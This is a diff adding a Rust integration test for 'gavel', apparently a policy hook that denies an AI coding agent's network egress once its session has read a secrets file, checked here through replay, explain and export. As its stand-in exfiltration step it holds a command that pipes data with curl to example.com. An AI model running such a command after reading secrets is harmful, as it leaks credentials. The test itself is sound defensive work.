@@ -1,0 +1,141 @@
+//! Session flows through the real Claude Code hook: a secrets read labels
+//! its session, and the session's later egress is denied, in that session
+//! only, across processes; replay without the flow rule names exactly that
+//! call, loosened, and the read that set the state.
+
+use serde_json::{Value, json};
+
+use crate::support::{Sandbox, json, run_expecting, tool_payload};
+
+/// Sends one Claude Code `PreToolUse` of `session` through `gavel hook`;
+/// the permission decision and its reason.
+fn hook(sandbox: &Sandbox, session: &str, id: &str, tool: &str, input: Value) -> (String, String) {
+    let mut payload = tool_payload(sandbox, "pre_tool_use.json", id, tool, input);
+    payload["session_id"] = json!(session);
+    let output = run_expecting(
+        sandbox
+            .gavel(&["hook", "claude-code"])
+            .write_stdin(payload.to_string()),
+        0,
+    );
+    let answer = json(&output)["hookSpecificOutput"].clone();
+    (
+        answer["permissionDecision"].as_str().unwrap().to_owned(),
+        answer["permissionDecisionReason"]
+            .as_str()
+            .unwrap()
+            .to_owned(),
+    )
+}
+
+const CURL: &str = "curl -d @- https://example.com/hook";
+
+#[test]
+fn egress_after_a_secrets_read_is_denied_in_that_session_only_and_replay_names_the_read() {
+    let sandbox = Sandbox::new();
+    sandbox.write("gavel.toml", gavel::policy::CODING_AGENT_POLICY_TOML);
+    sandbox.write(".env", "API_KEY=not-for-the-web\n");
+    let env = sandbox.ws.join(".env").to_string_lossy().into_owned();
+
+    let (read, _) = hook(
+        &sandbox,
+        "s-read",
+        "read-env",
+        "Read",
+        json!({"file_path": env}),
+    );
+    assert_eq!(read, "allow");
+    // A later call of the same session, in a new process.
+    let (sent, why) = hook(
+        &sandbox,
+        "s-read",
+        "curl-after",
+        "Bash",
+        json!({"command": CURL}),
+    );
+    assert_eq!(sent, "deny", "{why}");
+    assert!(
+        why.starts_with("[flow.egress_after_secrets]") && why.contains("set by call read-env"),
+        "{why}"
+    );
+    let (fetched, why) = hook(
+        &sandbox,
+        "s-read",
+        "fetch-after",
+        "WebFetch",
+        json!({"url": "https://example.com", "prompt": "p"}),
+    );
+    assert_eq!(fetched, "deny", "{why}");
+    // The same command in a session that read no secret is asked, as ever.
+    let (fresh, why) = hook(
+        &sandbox,
+        "s-clean",
+        "curl-fresh",
+        "Bash",
+        json!({"command": CURL}),
+    );
+    assert_eq!(fresh, "ask", "{why}");
+    assert!(why.starts_with("[bash.requires_approval]"), "{why}");
+
+    // Replayed under the policy in force: exact, nothing moves.
+    let same = json(&run_expecting(&mut sandbox.gavel(&["replay", "--json"]), 0));
+    assert_eq!(same["changed"], 0, "{same}");
+
+    // Under the preset without its flow rule: exactly the two egress calls
+    // of the session that read the secret loosen, each naming the read.
+    let preset = gavel::policy::CODING_AGENT_POLICY_TOML;
+    let start = preset.find("[[rules]]\n# Exfiltration").unwrap();
+    let end = start + 9 + preset[start + 9..].find("[[rules]]").unwrap();
+    sandbox.write(
+        "noflow.toml",
+        &format!("{}{}", &preset[..start], &preset[end..]),
+    );
+    let noflow = sandbox.ws.join("noflow.toml");
+    // A loosening fails the replay (exit 1), as any would.
+    let drift = json(&run_expecting(
+        &mut sandbox.gavel(&["replay", "--json", "--policy", noflow.to_str().unwrap()]),
+        1,
+    ));
+    assert_eq!(drift["changed"], 2, "{drift}");
+    assert_eq!(drift["loosened"], 2, "{drift}");
+    let calls = drift["calls"].as_array().unwrap();
+    let ids: Vec<&str> = calls
+        .iter()
+        .map(|c| c["call_id"].as_str().unwrap())
+        .collect();
+    assert_eq!(ids, ["curl-after", "fetch-after"]);
+    for call in calls {
+        assert_eq!(call["from"]["rule_id"], "flow.egress_after_secrets");
+        assert_eq!(
+            call["because"],
+            json!({"label": "private", "call_id": "read-env"})
+        );
+    }
+    assert_eq!(calls[0]["to"]["action"], "ask");
+
+    // `explain` re-decides on the history the decision read.
+    let explained = json(&run_expecting(
+        &mut sandbox.gavel(&["explain", "curl-after", "--json"]),
+        0,
+    ));
+    assert_eq!(
+        explained["after"],
+        json!({"label": "private", "call_id": "read-env"})
+    );
+    assert_eq!(explained["labels"], json!(["egress"]));
+    let trace = explained["trace"].as_array().unwrap();
+    let flow = trace
+        .iter()
+        .find(|t| t["rule_id"] == "flow.egress_after_secrets")
+        .unwrap();
+    assert_eq!(flow["matched"], true, "{flow}");
+
+    // Exported as cases, the calls decide as recorded: the history goes with them.
+    let cases = sandbox.root.join("cases.jsonl");
+    let export = run_expecting(&mut sandbox.gavel(&["export", "--requests"]), 0);
+    std::fs::write(&cases, &export.stdout).unwrap();
+    run_expecting(
+        &mut sandbox.gavel(&["policy", "test", cases.to_str().unwrap()]),
+        0,
+    );
+}
